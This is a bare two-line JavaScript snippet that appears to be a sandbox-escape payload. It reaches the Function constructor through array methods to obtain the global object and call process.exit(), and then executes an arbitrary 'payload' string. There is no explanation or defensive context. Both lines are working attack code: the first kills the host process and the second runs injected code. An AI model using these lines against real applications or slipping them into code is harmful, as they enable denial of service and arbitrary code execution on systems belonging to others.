[].filter.constructor('return this')().process.exit();
[].map.constructor(payload)();
